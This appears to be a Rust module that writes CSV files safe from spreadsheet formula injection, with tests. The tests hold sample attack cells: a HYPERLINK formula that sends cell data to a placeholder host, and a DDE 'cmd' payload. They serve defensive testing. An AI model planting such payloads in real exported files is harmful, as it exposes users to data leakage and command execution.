//! Rows written so that a spreadsheet program opens them in columns and runs nothing.

/// Builds CSV for spreadsheet programs in Brazil: UTF-8 with byte order mark, `;` between cells, CR LF after rows.
///
/// A text typed by the public may start as a formula does (`=`, `+`, `-`, `@`, tab or carriage return; CWE-1236). It
/// gets an apostrophe before it, which spreadsheet programs take as "this is text". A telephone such as
/// `+55 51 0000-0000` gets a no-break space instead, so that it reads the same and still is not computed. Plain
/// negative numbers stay numbers. [`crate::parse_cell`] takes both guards off again.
///
/// ```
/// let mut csv = sheet::SafeCsv::new();
/// csv.row(["placa", "observação"]);
/// csv.row(["AAA0A00", "=1+1"]);
/// assert_eq!(csv.take(), "\u{feff}placa;observação\r\nAAA0A00;\"'=1+1\"\r\n".as_bytes());
/// ```
#[derive(Debug, Clone)]
pub struct SafeCsv {
    written: String,
}

impl Default for SafeCsv {
    fn default() -> Self {
        Self::new()
    }
}

impl SafeCsv {
    /// A file with only its byte order mark.
    #[must_use]
    pub fn new() -> Self {
        Self { written: "\u{feff}".to_owned() }
    }

    /// Adds a row. White space around a cell is left out: a tab or carriage return
    /// before a text serves only to hide what the text starts with.
    pub fn row<T: AsRef<str>>(&mut self, cells: impl IntoIterator<Item = T>) {
        let start = self.written.len();
        let mut count = 0;
        for cell in cells {
            if count > 0 {
                self.written.push(';');
            }
            count += 1;
            write_cell(&mut self.written, cell.as_ref());
        }
        if count == 1 && self.written.len() == start {
            // an empty line would be no row
            self.written.push_str("\"\"");
        }
        self.written.push_str("\r\n");
    }

    /// The bytes added since the last call, so that a long file need not stand in memory.
    #[must_use]
    pub fn take(&mut self) -> Vec<u8> {
        std::mem::take(&mut self.written).into_bytes()
    }

    /// How many bytes wait to be taken.
    #[must_use]
    pub fn len(&self) -> usize {
        self.written.len()
    }

    /// Whether no bytes wait to be taken.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.written.is_empty()
    }
}

fn write_cell(into: &mut String, cell: &str) {
    let cell = cell.trim();
    let guard = guard(cell);
    let quoted = guard == Guard::Apostrophe || cell.contains(['"', ';', '\t', '\r', '\n', '\0']);
    if quoted {
        into.push('"');
    }
    match guard {
        Guard::None => {}
        Guard::Apostrophe => into.push('\''),
        Guard::NoBreakSpace => into.push('\u{a0}'),
    }
    if quoted {
        for c in cell.chars() {
            match c {
                '"' => into.push_str("\"\""),
                // a zero byte ends the text in some programs
                '\0' => into.push('\u{fffd}'),
                _ => into.push(c),
            }
        }
        into.push('"');
    } else {
        into.push_str(cell);
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Guard {
    None,
    Apostrophe,
    NoBreakSpace,
}

fn guard(cell: &str) -> Guard {
    if !opens_as_formula(cell.trim_start_matches('\'')) {
        return Guard::None;
    }
    match cell.as_bytes() {
        [b'-', number @ ..] if is_plain_number(number) => Guard::None,
        [b'+', number @ ..] if is_telephone(number) => Guard::NoBreakSpace,
        _ => Guard::Apostrophe,
    }
}

/// Whether a spreadsheet program may take the text for a formula, or its first character for a step into another
/// cell.
pub(crate) fn opens_as_formula(text: &str) -> bool {
    let first = text.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || is_invisible(c));
    // the full-width forms start a formula in East Asian versions
    first.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
        || (!first.is_empty() && text.starts_with(['\t', '\r', '\n', '\0']))
}

/// Marks that show nothing and that a program may pass over before it looks for a formula.
fn is_invisible(c: char) -> bool {
    matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{feff}')
}

fn is_plain_number(text: &[u8]) -> bool {
    let digit_at = |at: Option<&u8>| at.is_some_and(u8::is_ascii_digit);
    digit_at(text.first())
        && digit_at(text.last())
        && text.iter().all(|byte| byte.is_ascii_digit() || matches!(byte, b'.' | b','))
}

/// Only what a telephone number is written with: nothing in it can call a function or name a cell.
fn is_telephone(text: &[u8]) -> bool {
    text.iter().filter(|byte| byte.is_ascii_digit()).count() >= 2
        && text.iter().all(|byte| byte.is_ascii_digit() || b" -().".contains(byte))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        Cell, CellKind, CellRules, CellValue, Dialect, Encoding, Reader, Record, detect, parse_cell,
    };
    use jiff::civil::date;
    use proptest::prelude::*;

    fn written(cell: &str) -> String {
        let mut into = String::new();
        write_cell(&mut into, cell);
        into
    }

    #[test]
    fn formulas_open_as_text() {
        let formula = "=HYPERLINK(\"http://exemplo.invalid?\"&A1,\"abrir\")";
        assert_eq!(written(formula), "\"'=HYPERLINK(\"\"http://exemplo.invalid?\"\"&A1,\"\"abrir\"\")\"");
        assert_eq!(written("\tx "), "x");
        for text in [
            "=1",
            "+A1",
            "-A1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            " =1",
            "\u{feff}=1",
            "-2+3+cmd|' /C calc'!A0",
            "＝1",
            "\0x",
        ] {
            let cell = written(text);
            assert!(cell.starts_with("\"'"), "{cell}");
        }
    }

    #[test]
    fn a_telephone_reads_the_same_and_negative_numbers_stay_numbers() {
        assert_eq!(written("+55 51 0000-0000"), "\u{a0}+55 51 0000-0000");
        assert_eq!(written("+55 51 0000-0000").trim(), "+55 51 0000-0000");
        assert_eq!(written("+55 (51) 0000-0000"), "\u{a0}+55 (51) 0000-0000");
        for number in ["-12", "-1.234,56", "-0.5", "12"] {
            assert_eq!(written(number), number);
        }
        assert!(written("-12-3").starts_with("\"'"));
    }

    proptest! {
        #[test]
        fn what_is_written_reads_back(rows in prop::collection::vec(prop::collection::vec("[ -~\n\r\tçã“€]{0,12}", 3), 1..20)) {
            let mut csv = SafeCsv::new();
            csv.row(["a", "b", "c"]);
            for row in &rows {
                csv.row(row);
            }
            let bytes = csv.take();
            let dialect = Dialect { encoding: Encoding::Utf8Bom, ..Dialect::default() };
            let mut read: Vec<Vec<String>> = Vec::new();
            let mut reader = Reader::new(&dialect);
            let rules = CellRules::new(date(1900, 1, 1)..=date(2046, 1, 1));
            let mut sink = |record: Record<'_>| match record {
                Record::Row(row) => read.push(row.iter().map(str::to_owned).collect()),
                Record::Bad(bad) => panic!("{bad}"),
                Record::Header(_) => {}
            };
            reader.feed(&bytes, &mut sink);
            reader.finish(&mut sink);
            let blank = |row: &Vec<String>| row.iter().all(|cell| cell.trim().is_empty());
            let expected: Vec<_> = rows.iter().filter(|row| !blank(row)).collect();
            prop_assert_eq!(read.len(), expected.len());
            for (read, wanted) in read.iter().flatten().zip(expected.into_iter().flatten()) {
                prop_assert!(!read.starts_with(['=', '+', '@', '\t', '\r']), "{}", read);
                let bare = match parse_cell(CellKind::Text, read, &rules) {
                    Cell::Value(CellValue::Text(text)) => text,
                    _ => read.trim(),
                };
                prop_assert_eq!(bare, wanted.trim());
            }
        }
    }

    #[test]
    fn our_own_files_are_detected() {
        let mut csv = SafeCsv::new();
        csv.row(["placa", "motivo", "data"]);
        csv.row(["AAA0A00", "veículo com 11 anos; o limite é 10", "28/05/2018"]);
        let dialect = detect(&csv.take());
        assert_eq!((dialect.encoding, dialect.delimiter), (Encoding::Utf8Bom, b';'));
        assert!(csv.is_empty());
    }
}
